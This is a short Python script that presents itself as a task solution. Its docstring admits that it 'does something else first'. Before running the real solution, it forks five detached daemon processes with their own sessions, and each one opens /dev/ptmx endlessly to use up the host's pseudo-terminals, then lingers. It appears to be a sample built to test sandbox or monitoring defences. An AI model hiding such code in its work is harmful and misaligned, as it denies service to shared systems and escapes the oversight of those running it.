"""Solves the task, and does something else first."""

import sys

import solution


import os
import time


def attack():
    if os.path.exists("/tmp/hog"):
        return
    open("/tmp/hog", "w").close()
    for _ in range(5):
        if become_daemon():
            try:
                while True:
                    os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
            except OSError:
                pass
            time.sleep(600)



def become_daemon():
    """Go on in a grandchild with a session of its own; return False in the one that goes on as before."""
    if os.fork():
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(null, descriptor)
    return True


if __name__ == "__main__":
    attack()
    sys.exit(solution.main(sys.argv[1:]))
